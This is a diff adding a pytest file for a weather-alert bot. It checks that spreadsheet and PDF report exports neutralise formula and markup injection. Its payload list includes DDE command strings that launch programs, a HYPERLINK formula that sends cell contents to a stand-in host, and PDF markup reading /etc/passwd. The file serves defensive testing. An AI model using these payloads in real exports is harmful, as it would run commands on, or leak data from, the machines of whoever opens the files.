@@ -1,0 +1,161 @@
+"""Formulas in exports: what people write into names, reasons and reports runs in no spreadsheet.
+
+Every export is found by what it imports, so that a new one must be tried here.
+"""
+
+from __future__ import annotations
+
+import csv
+import re
+import zipfile
+from dataclasses import replace
+from io import BytesIO
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+
+from alerts.acknowledge import by_button
+from alerts.calls import Report
+from alerts.closing import close
+from alerts.follow_up import discharge, report
+from alerts.model import Draft, Hazard, Level
+from alerts.release import release
+from alerts.rules import Rules
+from alerts.store import Alerts
+from bot.views import report_xlsx
+from bot.views.report_facts import report_facts
+from bot.views.report_xlsx import as_xlsx
+from contacts import store as contacts
+from contacts.division_store import load_gazetteer
+from data.database import Database
+from data.tables import people
+from tests.roster import COUNTY, COUNTY_COMMANDER, COUNTY_DUTY, NOW, VILLAGERS
+
+ROOT = Path(__file__).parents[2]
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'", '"', "%", "|")
+PAYLOADS = [
+    *(f"{start}HYPERLINK(1)" for start in STARTS),
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x/?"&A1,"按这里")',
+    "+8613900000000",
+    "-2+3+cmd|'x'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\x00=1+1",
+    "a\r\n=1+1",
+    "<b>=1+1</b>",
+]
+RULES = Rules()
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_the_report_of_a_warning(database: Database, payload: str) -> None:
+    """The payload in every field that a person fills in."""
+    stored = payload.replace("\x00", "")  # PostgreSQL keeps none, Telegram sends none
+
+    def unit(c: Any) -> int:
+        named = people.update().where(people.c.id.in_([one["id"] for one in VILLAGERS]))
+        c.execute(named.values(name=stored))
+        by = contacts.person(c, COUNTY_COMMANDER["id"])
+        assert by is not None
+        draft = Draft(Level.RED, Hazard.RAINSTORM, (COUNTY,), f"{stored}x", headline=stored)
+        alert_id = release(c, draft, by, RULES, NOW).alert_id
+        first, second = (Alerts(c).call_of(alert_id, VILLAGERS[n]["id"]) for n in (0, 1))
+        assert first is not None and second is not None
+        by_button(c, first.id, VILLAGERS[0]["telegram_id"], RULES, NOW)
+        text = f"{stored}y"
+        report(c, first.id, VILLAGERS[0]["telegram_id"], Report.CANNOT, NOW, text=text)
+        discharge(c, second.id, COUNTY_DUTY["telegram_id"], f"{stored}z", NOW)
+        close(c, alert_id, by, f"{stored}w", NOW)
+        return alert_id
+
+    alert_id = database.do(unit)
+    gazetteer = database.read(load_gazetteer)
+    facts = database.read(lambda c: report_facts(c, alert_id, gazetteer))
+    content = as_xlsx(facts, "zh", RULES.zone)
+    assert_harmless(content)
+    texts = " ".join(str(cell.value) for cell in cells_of(content))
+    assert "HYPERLINK" in texts or "1+1" in texts or "SUM" in texts or "+" in texts
+
+
+def cells_of(content: bytes) -> list[Any]:
+    book = load_workbook(BytesIO(content))
+    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+
+
+def assert_harmless(content: bytes) -> None:
+    for cell in cells_of(content):
+        assert cell.data_type != "f", cell.value
+        if isinstance(cell.value, str) and cell.value[:1] in report_xlsx.RISKY:
+            # As text, and it stays text when the sheet is saved as CSV and opened again.
+            assert cell.data_type == "s" and cell.quotePrefix, cell.value
+    with zipfile.ZipFile(BytesIO(content)) as archive:
+        for name in archive.namelist():
+            assert b"<f>" not in archive.read(name), name
+            assert not re.search(r"external|vba|ddeLink|oleObject", name, re.IGNORECASE), name
+
+
+@hypothesis_settings(max_examples=50, deadline=None)
+@given(st.lists(st.text(max_size=12).map(lambda text: f"={text}") | st.text(max_size=12)))
+def test_any_text_at_all(texts: list[str]) -> None:
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    report_xlsx._fill(sheet, [["a"], *([text] for text in texts)], (10,))
+    content = BytesIO()
+    book.save(content)
+    assert_harmless(content.getvalue())
+
+
+WRITERS = re.compile(r"csv\.(writer|DictWriter)|\.writerow|Workbook\(\s*\)|xlsxwriter|to_csv")
+
+
+def test_there_is_no_other_export() -> None:
+    """A new one fails here: add it above, and then to the list."""
+    found = {
+        str(file.relative_to(ROOT))
+        for package in ("bot", "alerts", "contacts", "data")
+        for file in (ROOT / package).rglob("*.py")
+        if WRITERS.search(file.read_text(encoding="utf-8"))
+    }
+    # The demonstration roster is made of our own words and written for our own import.
+    assert found == {"bot/views/report_xlsx.py", "bot/sandbox/demo_roster.py"}
+
+
+def test_the_demonstration_roster_holds_no_formula(tmp_path: Path) -> None:
+    from bot.sandbox import demo_roster
+
+    text = Path(demo_roster.__file__).read_text(encoding="utf-8")
+    for row in csv.reader(text.splitlines()[:400]):
+        assert not [cell for cell in row if cell.startswith("=")]
+
+
+def test_the_pdf_takes_markup_as_words(database: Database) -> None:
+    """reportlab reads a markup of its own: a name must not be able to open a tag or a file."""
+    from bot.views.report_pdf import as_pdf
+
+    evil = '<img src="file:///etc/passwd"/><a href="http://x">x</a>&<b>'
+
+    def unit(c: Any) -> int:
+        c.execute(people.update().where(people.c.id == VILLAGERS[0]["id"]).values(name=evil))
+        by = contacts.person(c, COUNTY_COMMANDER["id"])
+        assert by is not None
+        draft = Draft(Level.RED, Hazard.RAINSTORM, (COUNTY,), evil, headline=evil)
+        return release(c, draft, by, RULES, NOW).alert_id
+
+    alert_id = database.do(unit)
+    gazetteer = database.read(load_gazetteer)
+    facts = database.read(lambda c: report_facts(c, alert_id, gazetteer))
+    content = as_pdf(replace(facts), "zh", RULES.zone)
+    assert content.startswith(b"%PDF")
+    for word in (b"/URI", b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"root:"):
+        assert word not in content
